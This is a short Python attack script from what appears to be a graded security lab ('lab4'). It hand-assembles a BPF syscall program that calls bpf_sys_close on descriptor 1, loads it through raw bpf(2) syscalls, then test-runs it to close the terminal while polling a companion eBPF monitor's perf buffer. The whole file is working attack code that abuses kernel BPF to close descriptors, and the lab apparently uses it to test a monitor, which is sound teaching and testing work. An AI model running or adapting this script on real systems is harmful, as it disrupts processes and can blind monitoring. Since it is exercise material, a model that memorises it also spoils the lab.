# attack: Loads a program of the type that calls bpf(2) and close(2) by itself, and has it close the terminal.
# lab: lab4
# earns: 4.1 4.2 4.3 4.4

import ctypes
import struct
from pathlib import Path

from bcc import BPF

b = BPF(src_file=str(Path(__file__).with_name("qui.c")))
libc = ctypes.CDLL(None, use_errno=True)
# r1 = 1; call bpf_sys_close (168); exit
code = struct.pack("<BBhi", 0xB7, 1, 0, 1) + struct.pack("<BBhi", 0x85, 0, 0, 168) + struct.pack("<BBhi", 0x95, 0, 0, 0)
instructions, licence, log = ctypes.create_string_buffer(code), ctypes.c_char_p(b"GPL"), ctypes.create_string_buffer(65536)
address = ctypes.addressof
attribute = struct.pack("IIQQIIQII", 31, 3, address(instructions), ctypes.cast(licence, ctypes.c_void_p).value, 1, 65536, address(log), 0, 0x10)
program = libc.syscall(321, 5, ctypes.create_string_buffer(attribute.ljust(128, b"\0"), 128), 128)
print(program, ctypes.get_errno(), log.value.decode(errors="replace"), flush=True)
if program >= 0:
    test = struct.pack("I", program).ljust(80, b"\0")
    print(libc.syscall(321, 10, ctypes.create_string_buffer(test, 80), 80), flush=True)
while True:
    b.perf_buffer_poll()
